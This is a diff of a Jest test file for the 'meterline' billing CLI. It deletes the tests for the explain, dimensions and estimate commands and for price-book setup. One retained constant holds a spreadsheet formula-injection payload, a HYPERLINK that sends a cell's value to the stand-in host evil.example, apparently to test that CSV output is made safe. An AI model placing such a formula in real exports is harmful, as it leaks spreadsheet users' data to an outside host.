@@ -1,29 +1,15 @@
-/** `meterline metrics`, `explain`, `dimensions`, `estimate`, `keys` and `mcp` against the real API: tables, JSON, CSV and pages. */
+/** `meterline metrics`, `keys` and `mcp` against the real API: tables, JSON, CSV and pages. */
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
-import { DEFAULT_PRICE_BOOK, DEFAULT_PRICE_BOOK_FILE, PriceBook } from '@meterline/catalog';
 import type { KeyRole } from '@meterline/service/access';
-import { oneServer, registerPriceBook } from '@meterline/warehouse';
 import { bearer, metricsPath, NOW, startApi, type TestApi } from '../harness/api.js';
-import { type EventSketch, event } from '../harness/events.js';
+import { event } from '../harness/events.js';
 import { withApiProxy } from '../harness/services.js';
-import { execute } from '../harness/stack.js';
 import { describeTools } from './mcp.js';
 import { type MeterlineOptions, runCommand, runMeterline } from './run-command.js';
 
 const DAY = ['metrics', '--from', '2025-10-01', '--to', '2025-10-02'];
 const MONTH = ['metrics', '--month', '2025-10'];
 const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"total")';
-
-const VOLUME = { billingDimension: 'volume_storage_gbs', per: '1000' } as const;
-const BOOK = new PriceBook({
-  ...DEFAULT_PRICE_BOOK_FILE,
-  version: 7,
-  prices: [...DEFAULT_PRICE_BOOK_FILE.prices, { ...VOLUME, amount: '8', effectiveFrom: '2098-01-01T00:00:00Z' }],
-  overrides: [
-    { ...VOLUME, accountId: 'acme', amount: '3.50', effectiveFrom: '2025-06-01T00:00:00Z' },
-    { ...VOLUME, accountId: 'initech', amount: '0.000000000000000001', effectiveFrom: '2025-07-01T00:00:00Z' },
-  ],
-});
 
 let api: TestApi;
 /** The environments of accounts: with usage of one day, of several months, and with many resources. */
@@ -33,7 +19,6 @@ let wide: Record<string, string>;
 
 beforeAll(async () => {
   api = await startApi();
-  await registerPriceBook(oneServer(api.dependencies.warehouse), BOOK);
   [acme, initech, wide] = await Promise.all([as('acme'), as('initech'), as('wide')]);
   const used = (resourceName: string, at: string, cost: string) =>
     event({ accountId: 'initech', resourceName, at, cost });
@@ -372,191 +357,7 @@ describe('keys with a login', () => {
   });
 });
 
-describe('explain', () => {
-  const HOUR = ['explain', '--from', '2025-10-05T10:00:00Z', '--to', '2025-10-05T11:00:00Z'];
-  let globex: Record<string, string>;
-  beforeAll(async () => {
-    globex = await as('globex');
-    const { warehouse } = api.dependencies;
-    await registerPriceBook(oneServer(warehouse), DEFAULT_PRICE_BOOK);
-    await execute(warehouse, 'SYSTEM STOP MERGES usage_events');
-    const store = (fields: EventSketch) => api.seed([event({ accountId: 'globex', ...fields })]);
-    const first = { eventId: '018f0000-0000-7000-8000-000000000001', at: '2025-10-05T10:30:00.250Z' };
-    await store({ ...first, usage: '1', cost: '0.0000115' });
-    await store({ ...first, usage: '1200', cost: '0.0138', revision: 1 });
-    await store({
-      eventId: '018f0000-0000-7000-8000-000000000002',
-      at: '2025-10-05T10:00:00Z',
-      cost: '2',
-      priceBook: 4,
-    });
-  });
-  afterAll(() => execute(api.dependencies.warehouse, 'SYSTEM START MERGES usage_events'));
-
-  it('explain lists events with their prices, their earlier payloads and their sum', async () => {
-    expect(await run(HOUR, globex)).toEqual({
-      code: 0,
-      stderr: '',
-      stdout: [
-        'TIME                     EVENT                                 WORKSPACE  RESOURCE  DIMENSION                         USAGE                PRICE        COST',
-        '2025-10-05T10:30:00.25Z  018f0000-0000-7000-8000-000000000001  main       box       sandbox_compute_runtime_gbs  1,200 GB-s  $0.0000115 per GB-s     $0.0138',
-        '                           was revision 0                      main       box       sandbox_compute_runtime_gbs      1 GB-s  $0.0000115 per GB-s  $0.0000115',
-        '2025-10-05T10:00:00Z     018f0000-0000-7000-8000-000000000002  main       box       sandbox_compute_runtime_gbs      1 GB-s           ? (book 4)       $2.00',
-        '2 shown                                                                                                                                              $2.0138',
-        '',
-      ].join('\n'),
-    });
-  });
-
-  it('explain prints how to continue, the response as JSON, and that there are no events', async () => {
-    const first = await run([...HOUR, '--limit', '1'], globex);
-    // A cursor is of one window.
-    const [, from, to, cursor = ''] = /--from (\S+) --to (\S+) --cursor (\S+)\n$/.exec(first.stderr) ?? [];
-    expect([from, to]).toEqual(['2025-10-05T10:00:00Z', '2025-10-05T11:00:00Z']);
-    const second = await run([...HOUR, '--limit', '1', '--cursor', cursor, '--json'], globex);
-    expect(JSON.parse(second.stdout).data.map(({ cost }: { cost: number }) => cost)).toEqual([2]);
-    const none = await run([...HOUR, '--filter', 'resourceName=other'], globex);
-    expect(none).toMatchObject({ code: 0, stdout: 'No events in this window.\n' });
-    expect(none.stderr).toContain('check the spelling of the filter values');
-  });
-
-  it('explain orders events by cost, and prints all pages as a table, CSV or JSON', async () => {
-    const [first, second] = ['1', '2'].map((digit) => `018f0000-0000-7000-8000-00000000000${digit}`);
-    const all = async (...args: string[]) => {
-      const { code, stdout, stderr } = await run([...HOUR, '--limit', '1', '--all', ...args], globex);
-      expect([code, stderr]).toEqual([0, 'Read 2 events on 2 pages.\n']);
-      return stdout.split(/\r?\n/);
-    };
-    const [, dearest, cheapest] = await all('--order-by', 'cost', '--order', 'desc');
-    expect([dearest, cheapest]).toEqual([expect.stringContaining(`${second}`), expect.stringContaining(`${first}`)]);
-    const [heading, ...lines] = await all('--csv');
-    expect(heading).toBe(
-      'timestamp,workspace,resourceType,resourceName,resourceUuid,billingDimension,usage,cost,voided,revision,priceRevision,' +
-        'priceBook,price.amount,price.per,price.effectiveFrom,eventId,history',
-    );
-    expect(lines).toEqual([
-      expect.stringContaining(`1200,0.0138,false,1,0,0,0.0000115,1,1970-01-01T00:00:00Z,${first},`),
-      `2025-10-05T10:00:00Z,main,sandbox,box,u-1,sandbox_compute_runtime_gbs,1,2,false,0,0,4,,,,${second},[]`,
-      '',
-    ]);
-    const excel = (await all('--csv=excel')).join('\n');
-    expect([excel.startsWith('\uFEFF'), excel.slice(1)]).toEqual([true, [heading, ...lines].join('\n')]);
-    const pages = await all('--json', '--order', 'desc');
-    expect(pages.slice(0, -1).map((page) => JSON.parse(page).data[0].eventId)).toEqual([second, first]);
-    const one = await run([...HOUR, '--limit', '1', '--csv'], globex);
-    expect(one.stdout.split('\n')).toHaveLength(3);
-    expect(one.stderr).toMatch(/^There are more events. Use --all for all events, or for the next page, add --from /);
-  });
-
-  it('explain continues after a page without events', async () => {
-    const interfere = async (path: string) => {
-      if (!path.includes('/events?')) return undefined;
-      const empty = { data: [], meta: { hasMore: true, nextCursor: 'next' } };
-      if (!path.includes('cursor=')) return { status: 200, body: empty };
-      const { body } = await api.request(path.replace('cursor=next', ''), bearer(globex['METERLINE_API_KEY'] ?? ''));
-      return { status: 200, body };
-    };
-    const shown = await withApiProxy(api.url, interfere, (url) => run(HOUR, { ...globex, METERLINE_API_URL: url }));
-    expect(shown).toMatchObject({ code: 0, stdout: expect.stringContaining('2 shown') });
-  });
-
-  it('explain --all by cost lists each event once, even if its cost changes between two pages', async () => {
-    let revision = 1;
-    const interfere = async (path: string) => {
-      if (!path.includes('cursor=')) return undefined;
-      revision += 1;
-      const first = { eventId: '018f0000-0000-7000-8000-000000000001', at: '2025-10-05T10:30:00.250Z' };
-      await api.seed([event({ accountId: 'globex', ...first, cost: String(revision + 1), revision })]);
-      return undefined;
-    };
-    const byCost = [...HOUR, '--limit', '1', '--all', '--order-by', 'cost'];
-    const { stdout, stderr } = await withApiProxy(api.url, interfere, (url) =>
-      run([...byCost, '--csv'], { ...globex, METERLINE_API_URL: url }),
-    );
-    expect(stdout.split('\n').map((line) => /,018f0000-[^,]*(\d),/.exec(line)?.[1])).toEqual([
-      undefined,
-      '1',
-      '2',
-      undefined,
-    ]);
-    expect(stderr).toBe('Read 2 events on 2 pages.\n');
-    expect(await run([...byCost, '--json'], globex)).toEqual({
-      code: 2,
-      stdout: '',
-      stderr: expect.stringContaining('--all --json prints events by time'),
-    });
-  });
-});
-
 describe('meterline mcp', () => describeTools(() => api));
-
-describe('prices', () => {
-  const lineOf = async (env: Record<string, string>, ...args: string[]) =>
-    (await run(['dimensions', ...args], env)).stdout.split('\n').find((line) => line.startsWith('volume'));
-  const estimate = async (lines: readonly object[], env: Record<string, string>, ...args: string[]) =>
-    run(['estimate', '--file', '-', '--json', ...args], env, {
-      stdin: lines.map((line) => JSON.stringify({ ...line, billingDimension: VOLUME.billingDimension })).join('\n'),
-    });
-
-  it('dimensions lists the prices in force for the account, and says which API they come from', async () => {
-    const { stdout, stderr } = await run(['dimensions']);
-    expect(stdout).toMatch(/^volume_storage_gbs +volume +GB-s +\$3\.50 per 1,000 GB-s +2025-06-01T00:00:00Z$/m);
-    expect(stderr).toBe(`Prices in force now: acme at ${api.url} (environment: METERLINE_API_URL).\n`);
-    expect(await lineOf(initech)).toContain('$0.000000000000000001 per 1,000 GB-s');
-    // The book of a variable is perhaps not the one of this API.
-    expect(await lineOf({ ...acme, PRICE_BOOK: 'none.json' })).toContain('$3.50');
-    expect(JSON.parse((await run(['dimensions', '--json'])).stdout)[10]).toEqual({
-      ...{ billingDimension: 'volume_storage_gbs', resourceType: 'volume', unit: 'gbs' },
-      price: { amount: '3.5', per: '1000', currency: 'USD', effectiveFrom: '2025-06-01T00:00:00Z' },
-    });
-  });
-
-  it('dimensions shows a price that is in force by the clock of the API alone', async () => {
-    try {
-      api.clock.now = new Date('2099-01-01T00:00:00Z');
-      expect(await lineOf(wide)).toMatch(/\$8\.00 per 1,000 GB-s +2098-01-01T/);
-    } finally {
-      api.clock.now = NOW;
-    }
-  });
-
-  it('estimate prices each item with the prices of its account', async () => {
-    const operator = await as(undefined, 'operator');
-    const lines = [
-      { usage: 1000 },
-      { usage: 2000, accountId: 'wide' },
-      { usage: 1, timestamp: '2025-06-01T00:00:00Z' },
-    ];
-    const { code, stdout } = await estimate(lines, operator, '--account', 'acme');
-    // 3.5 + 2,000 × 0.12 / 2,628,000 + 0.0035
-    expect({ code, ...JSON.parse(stdout) }).toMatchObject({ code: 0, totalCost: '3.503591324201' });
-  });
-
-  it.each([
-    ['an account of others', { usage: 1, accountId: 'wide' }, 3, 'Access denied'],
-    [
-      'a time before the price in force',
-      { usage: 1, timestamp: '2025-05-31T23:59:59Z' },
-      1,
-      'known at 2025-05-31T23:59:59Z; use --book with a book that has one',
-    ],
-  ])('estimate does not guess the price of %s', async (_, line, code, reason) => {
-    expect(await estimate([line], acme)).toMatchObject({ code, stdout: '', stderr: expect.stringContaining(reason) });
-  });
-
-  it('estimate rejects a dimension that the API does not list, as wrong usage', async () => {
-    const { code, stdout, stderr } = await run(['estimate', 'volume_storage=1']);
-    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
-    expect(stderr).toBe(
-      'meterline: volume_storage=1: billingDimension must be a dimension from "meterline dimensions"; did you mean volume_storage_gbs?\n',
-    );
-  });
-
-  it('dimensions fails when the API is away, and prints no other prices', async () => {
-    const away = await run(['dimensions'], { ...acme, METERLINE_API_URL: 'http://127.0.0.1:1' });
-    expect(away).toMatchObject({ code: 4, stdout: '', stderr: expect.stringContaining('cannot be reached') });
-  });
-});
 
 describe('--view', () => {
   const [ACCOUNT, QUERY] = [
